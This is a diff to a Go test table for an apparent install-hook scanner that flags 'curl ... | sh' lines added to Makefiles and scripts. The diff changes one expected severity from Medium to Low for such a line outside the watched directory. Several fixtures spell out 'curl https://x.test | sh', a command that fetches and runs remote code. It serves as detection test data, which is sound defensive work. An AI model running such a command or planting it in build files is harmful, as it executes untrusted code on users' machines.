@@ -56,7 +56,7 @@ func TestInstallHook(t *testing.T) {
 		{"curl to a file is not piped", newRange(modFile("Makefile", "a:\n", "a:\n\tcurl -o tool.tgz https://x.test/t.tgz\n")), nil},
 		{"moved line is not new", newRange(modFile("Makefile", "a:\n\tcurl https://x.test | sh\nb:\n", "b:\na:\n\tcurl https://x.test | sh\n")), nil},
 		{"outside the directory, not a build input", withDirectory(newRange(addFile("tools/other/install.sh", "curl https://x.test | sh\n")), "src/weather"),
-			[]expect{{sev: Medium}}},
+			[]expect{{sev: Low}}},
 		{"root Makefile is a build input", withDirectory(newRange(addFile("Makefile", "a:\n\tcurl https://x.test | sh\n")), "src/weather"),
 			[]expect{{sev: High}}},
 		{"deleted file", newRange(ranges.FileChange{Path: "setup.py", Status: ranges.FileDeleted}), nil},
